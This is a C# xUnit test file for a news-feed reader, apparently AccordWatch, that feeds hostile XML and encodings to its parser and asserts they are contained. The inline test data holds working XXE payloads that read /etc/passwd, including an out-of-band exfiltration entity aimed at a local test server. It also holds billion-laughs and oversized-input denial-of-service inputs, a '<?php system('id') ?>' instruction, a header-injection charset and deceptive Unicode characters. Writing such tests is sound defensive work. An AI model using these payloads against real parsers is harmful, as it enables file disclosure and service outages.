using System.Globalization;
using System.Text;
using AccordWatch.Acquire;
using AccordWatch.Model;
using AccordWatch.Tests.Doubles;

namespace AccordWatch.Tests.Acquire;

/// <summary>Documents that want to exhaust their reader, to have it read files or the network, or to break it with their bytes.</summary>
public sealed class HostileXmlTests : IDisposable
{
    private readonly Web _evil = new();

    public void Dispose() => _evil.Dispose();

    [Theory]
    [Trait("Hostile", "H-049")]
    [InlineData("<title>&e9;</title>", true)]
    [InlineData("<title>&e9;</titel>", true)]
    [InlineData("<title>Signed</title><enclosure url='https://a.example/&e9;'/>", true)]
    [InlineData("<title>&e0;&e1;&e2;&e9;</title>", true)]
    [InlineData("<title>&e9;</title>", false)]
    public void Billions_of_laughs_are_not_laughed(string inside, bool isNested)
    {
        var declared = string.Concat(Enumerable.Range(0, 10).Select(level => $"<!ENTITY e{level} \"{(level == 0 ? "lol" : string.Concat(Enumerable.Repeat(isNested ? $"&e{level - 1};" : $"&#38;e{level - 1};", 10)))}\">"));

        var feed = Bounded.Read($"<?xml version='1.0'?><!DOCTYPE rss [{declared}]><rss version='2.0'><channel><item><guid>1</guid>{inside}</item></channel></rss>")!;

        Assert.True(LengthOf(Assert.Single(feed.Entries)) < 1_000);
    }

    [Theory]
    [Trait("Hostile", "H-050")]
    [InlineData(100_000, 1, 100_000)]
    [InlineData(127, 1, 1_000_000)]
    [InlineData(100, 200, 20_000)]
    public void An_entity_that_is_used_again_and_again_does_not_grow_without_bound(int length, int entities, int times)
    {
        var declared = string.Concat(Enumerable.Range(0, entities).Select(one => $"<!ENTITY e{one} \"{new string('x', length)}\">"));
        var used = string.Concat(Enumerable.Range(0, times).Select(time => string.Create(CultureInfo.InvariantCulture, $"&e{time % entities};")));

        var feed = Bounded.Read($"<!DOCTYPE rss [{declared}]><rss version='2.0'><channel><item><guid>1</guid><description>{used}</description></item></channel></rss>")!;

        Assert.True(LengthOf(Assert.Single(feed.Entries)) <= FeedBounds.Text + 1_000);
    }

    [Theory]
    [Trait("Hostile", "H-050")]
    [InlineData(200)]
    [InlineData(100_000)]
    public void Many_entities_in_a_long_text_are_read_in_one_pass(int entities)
    {
        var declared = string.Concat(Enumerable.Range(0, entities).Select(one => $"<!ENTITY e{one} \"x\">"));
        var used = string.Concat(Enumerable.Range(0, 200).Select(one => $"&e{one};"));

        Assert.NotNull(Bounded.Read($"<!DOCTYPE rss [{declared}]><rss version='2.0'><channel><item><guid>1</guid><description>{used}{new string('y', 8_000_000)}</description></item></channel></rss>"));
    }

    [Theory]
    [Trait("Hostile", "H-051")]
    [InlineData("<!ENTITY e SYSTEM 'file:///etc/passwd'>")]
    [InlineData("<!ENTITY e SYSTEM '/etc/passwd'>")]
    [InlineData("<!ENTITY e SYSTEM 'WEB/secret'>")]
    [InlineData("<!ENTITY e PUBLIC 'x' 'WEB/secret'>")]
    [InlineData("<!ENTITY e SYSTEM '\\\\127.0.0.1\\share\\secret'>")]
    [InlineData("<!ENTITY e SYSTEM 'php://filter/read=convert.base64-encode/resource=/etc/passwd'>")]
    [InlineData("<!ENTITY e SYSTEM 'WEB/secret' NDATA gif>")]
    public void An_external_entity_is_neither_read_nor_asked_for(string declared)
    {
        var feed = Bounded.Read(Evil($"<!DOCTYPE rss [{declared}]><rss version='2.0'><channel><item><guid>1</guid><title>Signed &e;</title></item></channel></rss>"))!;

        AssertNothingCameOf(feed);
    }

    [Theory]
    [Trait("Hostile", "H-052")]
    [InlineData("<!DOCTYPE rss SYSTEM 'WEB/evil.dtd'>")]
    [InlineData("<!DOCTYPE rss PUBLIC '-//x//y//EN' 'WEB/evil.dtd'>")]
    [InlineData("<!DOCTYPE rss [<!ENTITY % p SYSTEM 'WEB/evil.dtd'> %p;]>")]
    [InlineData("<!DOCTYPE rss [<!ENTITY % f SYSTEM 'file:///etc/passwd'><!ENTITY % w \"<!ENTITY &#37; s SYSTEM 'WEB/?%f;'>\"> %w; %s;]>")]
    [InlineData("<!DOCTYPE rss SYSTEM 'file:///dev/zero'>")]
    [InlineData("<!DOCTYPE rss [<!ATTLIST title x CDATA 'WEB/secret'>]>")]
    public void An_external_subset_is_neither_read_nor_asked_for(string doctype)
    {
        var feed = Bounded.Read(Evil($"{doctype}<rss version='2.0'><channel><item><guid>1</guid><title>Signed &e;</title></item></channel></rss>"))!;

        AssertNothingCameOf(feed);
    }

    [Theory]
    [Trait("Hostile", "H-053")]
    [InlineData("<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" \"http://my.netscape.com/publish/formats/rss-0.91.dtd\">")]
    [InlineData("<!DOCTYPE rss SYSTEM \"http://my.netscape.com/publish/formats/rss-0.91.dtd\">")]
    [InlineData("<!DOCTYPE rss [<!ENTITY nbsp \"&#160;\"><!ENTITY eacute \"&#233;\">]>")]
    public void A_harmless_DOCTYPE_is_no_obstacle(string doctype)
    {
        var feed = Bounded.Read($"<?xml version='1.0'?>{doctype}<rss version='0.91'><channel><title>Gazette</title><item><title>Cort&eacute;s&nbsp;signs</title><link>https://a.example/1</link></item></channel></rss>")!;

        Assert.Equal(("Cortés signs", "https://a.example/1"), (Assert.Single(feed.Entries).Title, feed.Entries[0].Link));
    }

    [Theory]
    [Trait("Hostile", "H-054")]
    [InlineData("<!DOCTYPE html><html><head><title>Sign in</title></head><body><p>Sign in</p></body></html>", "application/rss+xml")]
    [InlineData("<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html xmlns=\"http://www.w3.org/1999/xhtml\"><body><item>1</item></body></html>", "text/xml")]
    [InlineData("<html><body><script>location='/feed'</script><rss></rss></body></html>", "text/html")]
    public async Task A_web_page_in_the_place_of_a_feed_is_no_feed(string page, string type)
    {
        using var room = new Newsroom();

        var report = await room.FirstVisitAsync(room.Web.Tells("/feed", Told.Text(page, type)));

        Assert.Equal((VisitOutcome.Failed, 0), (report.Outcome, report.New));
        Assert.Contains("not a feed", report.Reason, StringComparison.Ordinal);
    }

    [Theory]
    [Trait("Hostile", "H-055")]
    [InlineData("<rss version='2.0'><channel><item><guid>1</guid><description>", "<b>", "</b>", "</description></item></channel></rss>")]
    [InlineData("<rss version='2.0'><channel><item><guid>1</guid></item>", "<category>", "</category>", "</channel></rss>")]
    [InlineData("<rss version='2.0' xmlns:media='http://search.yahoo.com/mrss/'><channel><item><guid>1</guid></item>", "<media:group>", "</media:group>", "</channel></rss>")]
    [InlineData("<feed xmlns='http://www.w3.org/2005/Atom'><entry><id>1</id><content type='xhtml'>", "<div xmlns='http://www.w3.org/1999/xhtml'>", "</div>", "</content></entry></feed>")]
    [InlineData("<rss version='2.0'><channel><item><guid>1</guid><description>", "<b xml:base='a/'>", "", "")]
    public void A_hundred_thousand_elements_inside_one_another_are_cut_off(string head, string open, string close, string tail)
    {
        var feed = Bounded.Read($"{head}{Again(open, 100_000)}deep{Again(close, 100_000)}{tail}")!;

        Assert.Equal("1", feed.Entries[0].Id);
        Assert.Contains("more than 256 elements inside one another", feed.Problem, StringComparison.Ordinal);
    }

    [Theory]
    [Trait("Hostile", "H-056")]
    [InlineData("a{0}=''", true)]
    [InlineData("a{0}='' b", false)]
    [InlineData("xmlns:a{0}='u{0}'", true)]
    [InlineData("a='{0}'", false)]
    [InlineData("a{0}='>'", true)]
    public void A_million_attributes_are_not_kept(string attribute, bool isWellFormed)
    {
        var attributes = new StringBuilder();
        for (var one = 0; one < 1_000_000; one++)
        {
            attributes.Append(' ').Append(attribute.Replace("{0}", one.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal));
        }

        var feed = Bounded.Read($"<rss version='2.0'><channel><item {attributes}><guid>1</guid></item></channel></rss>")!;

        Assert.Equal("1", Assert.Single(feed.Entries).Id);
        Assert.True(isWellFormed || feed.Problem is not null);
    }

    [Theory]
    [Trait("Hostile", "H-057")]
    [InlineData("<link href='https://a.example/{0}'/>")]
    [InlineData("<enclosure url='https://a.example/{0}'/>")]
    [InlineData("<category text='{0}'/>")]
    [InlineData("<guid isPermaLink='{0}'/>")]
    [InlineData("<title xml:lang='{0}'>x</title>")]
    [InlineData("<title x='{0}>x</title>")]
    public void An_attribute_of_twenty_megabytes_is_not_kept(string element)
    {
        var feed = Bounded.Read($"<rss version='2.0'><channel><item><guid>1</guid>{element.Replace("{0}", new string('x', 19_000_000), StringComparison.Ordinal)}</item></channel></rss>")!;

        Assert.True(LengthOf(Assert.Single(feed.Entries)) < 10_000);
    }

    [Theory]
    [Trait("Hostile", "H-058")]
    [InlineData("<![CDATA[", "x", "]]>")]
    [InlineData("<![CDATA[", "<", "]]>")]
    [InlineData("<![CDATA[", "&", "]]>")]
    [InlineData("<![CDATA[", "]", "]]>")]
    [InlineData("<![CDATA[", "x", "")]
    [InlineData("", "<![CDATA[]]>", "")]
    [InlineData("", "<![CDATA[", "]]>")]
    [InlineData("<![CDATA[ a <![CDATA[ b ]]> c ]]>", "x", "]]>")]
    public void Ten_megabytes_of_CDATA_are_cut(string head, string again, string tail)
    {
        var feed = Bounded.Read($"<rss version='2.0'><channel><item><guid>1</guid><description>{head}{Again(again, 10_000_000 / again.Length)}{tail}</description></item></channel></rss>")!;

        Assert.True(LengthOf(Assert.Single(feed.Entries)) <= FeedBounds.Text + 1_000);
    }

    public static TheoryData<string, string?, byte[]> Encodings
    {
        get
        {
            const string feed = "<rss version='2.0'><channel><title>Gazette</title><item><guid>1</guid><title>Accord {0} signed</title></item></channel></rss>";
            var plain = feed.Replace("{0}", "", StringComparison.Ordinal);
            return new()
            {
                { "UTF-7 declared", "text/xml; charset=utf-7", Encoding.ASCII.GetBytes(feed.Replace("{0}", "+ADw-script+AD4-", StringComparison.Ordinal)) },
                { "UTF-16 without a mark", null, Encoding.Unicode.GetBytes(plain) },
                { "UTF-16 big-endian without a mark", null, Encoding.BigEndianUnicode.GetBytes(plain) },
                { "UTF-16 declared in bytes", null, Encoding.ASCII.GetBytes($"<?xml version='1.0' encoding='UTF-16'?>{plain}") },
                { "UTF-16 with half a character at its end", null, [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(plain), 0x00] },
                { "UTF-16 with a lone surrogate", null, [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("<rss version='2.0'><channel><title>Gazette</title><item><guid>1</guid><title>Accord "), 0x00, 0xD8, .. Encoding.Unicode.GetBytes(" signed</title></item></channel></rss>")] },
                { "UTF-32", null, Encoding.UTF32.GetBytes(plain) },
                { "a mark of UTF-8 and a declaration of UTF-16", null, [.. Encoding.UTF8.GetPreamble(), .. Encoding.ASCII.GetBytes($"<?xml version='1.0' encoding='UTF-16'?>{plain}")] },
                { "Latin-1 that calls itself UTF-8", "text/xml; charset=utf-8", Encoding.Latin1.GetBytes($"<?xml version='1.0' encoding='UTF-8'?>{feed.Replace("{0}", "Cortés", StringComparison.Ordinal)}") },
                { "UTF-8 that calls itself Latin-1", "text/xml; charset=iso-8859-1", Encoding.UTF8.GetBytes($"<?xml version='1.0' encoding='ISO-8859-1'?>{feed.Replace("{0}", "Космос", StringComparison.Ordinal)}") },
                { "header and declaration that differ", "text/xml; charset=shift_jis", Encoding.ASCII.GetBytes($"<?xml version='1.0' encoding='KOI8-R'?>{plain}") },
                { "GB18030 with four bytes", null, [.. Encoding.ASCII.GetBytes("<?xml version='1.0' encoding='GB18030'?><rss version='2.0'><channel><title>Gazette</title><item><guid>1</guid><title>Accord "), 0x81, 0x30, 0x81, 0x30, 0xFF, .. Encoding.ASCII.GetBytes(" signed</title></item></channel></rss>")] },
                { "a surrogate in UTF-8", null, Bytes(feed, 0xED, 0xA0, 0x80) },
                { "an overlong NUL", null, Bytes(feed, 0xC0, 0x80) },
                { "an overlong <", null, Bytes(feed, 0xC0, 0xBC) },
                { "beyond Unicode", null, Bytes(feed, 0xF4, 0x90, 0x80, 0x80) },
                { "a lone continuation", null, Bytes(feed, 0x80) },
                { "a NUL", null, Bytes(feed, 0x00) },
                { "an unheard-of encoding", "text/xml; charset=x-unheard-of", Encoding.ASCII.GetBytes($"<?xml version='1.0' encoding='x-evil'?>{plain}") },
                { "a name of 10,000 letters", $"text/xml; charset={new string('x', 10_000)}", Encoding.ASCII.GetBytes(plain) },
                { "a name with a line break", "text/xml; charset=\"utf-8\r\nX: y\"", Encoding.ASCII.GetBytes(plain) },
            };
        }
    }

    [Theory]
    [Trait("Hostile", "H-059")]
    [MemberData(nameof(Encodings))]
    public void A_wrong_encoding_gives_text_all_the_same(string what, string? contentType, byte[] body)
    {
        var feed = Bounded.Read(body, contentType);

        Assert.True(feed is not null, what);
        Assert.Equal("1", Assert.Single(feed.Entries).Id);
        Assert.StartsWith("Accord", feed.Entries[0].Title, StringComparison.Ordinal);
        Assert.EndsWith("signed", feed.Entries[0].Title, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", feed.Entries[0].Title, StringComparison.Ordinal);
    }

    [Theory]
    [Trait("Hostile", "H-060")]
    [InlineData("a&#0;b", "a&#0;b")]
    [InlineData("a&#x7;b&#x1B;[31mc&#x9B;2J", "ab[31mc›2J")]
    [InlineData("a\u0000b", "ab")]
    [InlineData("a\u0007b\u001B[2J", "ab[2J")]
    [InlineData("a\u007Fb", "a b")]
    [InlineData("a\uFFFEb\uFFFFc\uFDD0d", "abcd")]
    [InlineData("moc.elpmaxe\u202Egnp.exe", "moc.elpmaxegnp.exe")]
    [InlineData("\u2066a\u2069 &#x202E;b", "a b")]
    [InlineData("ac\u200Bco\u2060rd\uFEFF", "accord")]
    [InlineData("می\u200Cخواهم 👩\u200D🚀", "می\u200Cخواهم 👩\u200D🚀")]
    [InlineData("\u202E\u200B", null)]
    public void Characters_that_deceive_or_command_are_taken_out(string title, string? shown)
    {
        Assert.Equal(shown, Bounded.Read($"<rss version='2.0'><channel><item><guid>1</guid><title>{title}</title></item></channel></rss>")!.Entries[0].Title);
        var json = Bounded.Read($"{{\"version\":\"https://jsonfeed.org/version/1.1\",\"items\":[{{\"id\":\"1\",\"title\":{System.Text.Json.JsonSerializer.Serialize(title)}}}]}}")!;
        Assert.Equal(json.Entries[0].Title, json.Entries[0].Title is { } plain ? AccordWatch.Text.Unseen.Without(plain) : null);
    }

    [Theory]
    [Trait("Hostile", "H-060")]
    [InlineData("<title>{0}</title>")]
    [InlineData("<title>x</title><author>{0}</author>")]
    [InlineData("<title>x</title><category>{0}</category>")]
    public void A_thousand_marks_on_one_letter_are_eight(string element)
    {
        var entry = Bounded.Read($"<rss version='2.0'><channel><item><guid>1</guid>{element.Replace("{0}", $"a{Again("\u0301\u0489", 500)}b", StringComparison.Ordinal)}</item></channel></rss>")!.Entries[0];

        Assert.Equal($"a{Again("\u0301\u0489", 4)}b", element.Contains("author", StringComparison.Ordinal) ? entry.Authors[0] : element.Contains("category", StringComparison.Ordinal) ? entry.Categories[0] : entry.Title);
    }

    [Theory]
    [Trait("Hostile", "H-071")]
    [InlineData("<?xml-stylesheet type='text/xsl' href='WEB/evil.xsl'?>")]
    [InlineData("<?xml-stylesheet type='text/css' href='javascript:alert(1)'?>")]
    [InlineData("<?php system('id') ?>")]
    [InlineData("<?xml-model href='WEB/evil.rng'?>")]
    public void A_processing_instruction_is_passed_over(string instruction)
    {
        var feed = Bounded.Read(Evil($"<?xml version='1.0'?>{instruction}<rss version='2.0'><channel><item>{instruction}<guid>1</guid><title>Signed</title></item></channel></rss>"))!;

        Assert.Null(feed.Problem);
        AssertNothingCameOf(feed);
    }

    private void AssertNothingCameOf(Feed feed)
    {
        Assert.StartsWith("Signed", Assert.Single(feed.Entries).Title, StringComparison.Ordinal);
        Assert.DoesNotContain("root:", feed.Entries[0].Title, StringComparison.Ordinal);
        Assert.True(LengthOf(feed.Entries[0]) < 100);
        Assert.Empty(_evil.Asked);
    }

    private string Evil(string text) => text.Replace("WEB", _evil.Url("").AbsoluteUri.TrimEnd('/'), StringComparison.Ordinal);

    private static int LengthOf(FeedEntry entry)
        => (entry.Id?.Length ?? 0) + (entry.Title?.Length ?? 0) + (entry.Link?.Length ?? 0) + (entry.Summary?.Length ?? 0) + (entry.Content?.Length ?? 0) + (entry.Language?.Length ?? 0)
            + entry.Authors.Concat(entry.Categories).Concat(entry.Enclosures).Sum(one => one.Length);

    private static string Again(string text, int times) => new StringBuilder(text.Length * times).Insert(0, text, times).ToString();

    private static byte[] Bytes(string feed, params byte[] inside)
    {
        var parts = feed.Split("{0}");
        return [.. Encoding.ASCII.GetBytes(parts[0]), .. inside, .. Encoding.ASCII.GetBytes(parts[1])];
    }
}
